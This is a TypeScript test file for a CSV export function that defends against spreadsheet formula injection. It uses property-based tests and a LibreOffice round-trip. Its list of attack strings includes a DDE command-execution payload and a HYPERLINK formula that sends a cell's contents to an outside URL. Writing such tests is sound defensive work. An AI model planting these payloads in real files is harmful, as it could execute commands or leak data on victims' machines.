import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { has } from '../pdf/testing/read-back.ts';
import { guarded, writeCsv, type Cell } from './write-csv.ts';

/** A reader of RFC 4180, written from the standard. */
function readCsv(csv: string): string[][] {
	const rows: string[][] = [];
	let row: string[] = [];
	let cell = '';
	let isQuoted = false;
	for (let at = csv.startsWith('\uFEFF') ? 1 : 0; at < csv.length; at++) {
		const sign = csv[at]!;
		if (isQuoted && sign === '"' && csv[at + 1] === '"') cell += csv[++at]!;
		else if (sign === '"') isQuoted = !isQuoted;
		else if (isQuoted) cell += sign;
		else if (sign === ',') [row, cell] = [[...row, cell], ''];
		else if (sign === '\r' && csv[at + 1] === '\n') {
			rows.push([...row, cell]);
			[row, cell] = [[], ''];
			at++;
		} else cell += sign;
	}
	return rows;
}

const attacks = [
	'=1+1',
	'+1+1',
	'-1+1',
	'@SUM(A1)',
	'\t=1+1',
	'\r=1+1',
	'\n=1+1',
	'  =1+1',
	'\u00a0=1+1',
	'\u200b=1+1',
	'\ufeff=1+1',
	'＝1+1',
	'＋1',
	'－1',
	'＠SUM(A1)',
	'"=1+1',
	"=cmd|' /C calc'!A0",
	'=HYPERLINK("http://example.org?x="&A1,"more")',
	'\u0000=1+1'
];
const harmless = [
	'',
	'Partly',
	"It's so",
	'a=b',
	'e-mail',
	'1,5 "quoted"\r\nsecond line',
	'ዕዳ 債務 🙂'
];

describe('writeCsv', () => {
	it('begins with the mark of UTF-8 and ends each line with CR LF', () => {
		expect(writeCsv({ header: ['a', 'b'], rows: [['x', 2]] })).toBe('\uFEFF"a","b"\r\n"x",2\r\n');
	});

	it.each(attacks)('puts an apostrophe before %j', (text) => {
		expect(guarded(text)).toMatch(/^'/);
		expect(guarded(text).slice(1)).toBe(text.replaceAll('\u0000', ''));
	});

	it.each(harmless)('leaves %j as it is', (text) => {
		expect(guarded(text)).toBe(text);
	});

	it('gives every table back to any reader of the standard', () => {
		const sign = fc.constantFrom(...'=+-@\t\r\n", \'aé債＝\u200b\u0000');
		const text = fc.oneof(
			fc.string({ unit: 'binary' }),
			fc.array(sign, { maxLength: 8 }).map((signs) => signs.join(''))
		);
		const cell: fc.Arbitrary<Cell> = fc.oneof(text, fc.integer());
		const row = fc.array(cell, { minLength: 3, maxLength: 3 });
		fc.assert(
			fc.property(fc.array(row, { maxLength: 5 }), (rows) => {
				const back = readCsv(writeCsv({ header: ['a', 'b', 'c'], rows }));
				expect(back.slice(1)).toEqual(
					rows.map((cells) =>
						cells.map((one) => (typeof one === 'number' ? String(one) : guarded(one)))
					)
				);
				for (const one of back.flat())
					if (!/^-?\d+$/.test(one))
						expect(one).not.toMatch(/^(?:[\t\r\n]|[\s\p{Cf}"]*[=+\-@＝＋－＠])/u);
			})
		);
	});
});

describe.runIf(has('soffice'))('a spreadsheet program', () => {
	it('shows every text as it is and calculates none', () => {
		const folder = mkdtempSync(join(tmpdir(), 'csv-'));
		try {
			const texts = [...attacks, ...harmless.slice(1)];
			writeFileSync(
				join(folder, 'table.csv'),
				writeCsv({ header: ['text', 'end'], rows: texts.map((text) => [text, 'x']) })
			);
			const convert = (to: string) =>
				execFileSync(
					'soffice',
					[
						`-env:UserInstallation=file://${folder}/profile`,
						'--headless',
						'--infilter=CSV:44,34,76,1',
						...['--convert-to', to, '--outdir', join(folder, 'out'), join(folder, 'table.csv')]
					],
					{ stdio: 'ignore', timeout: 100_000 }
				);
			convert('fods');
			const sheet = readFileSync(join(folder, 'out', 'table.fods'), 'utf8');
			expect(sheet).toContain('office:value-type="string"');
			expect(sheet).not.toMatch(/table:formula|office:value-type="float"/);
			convert('csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true');
			const back = readCsv(
				readFileSync(join(folder, 'out', 'table.csv'), 'utf8').replace(/\r?\n(?="[^"]|$)/g, '\r\n')
			);
			const lines = (text: string) => text.replace(/\r\n?/g, '\n');
			expect(back.slice(1).map(([text]) => lines(text!))).toEqual(
				texts.map((text) => lines(guarded(text)))
			);
		} finally {
			rmSync(folder, { recursive: true, force: true });
		}
	}, 120_000);
});
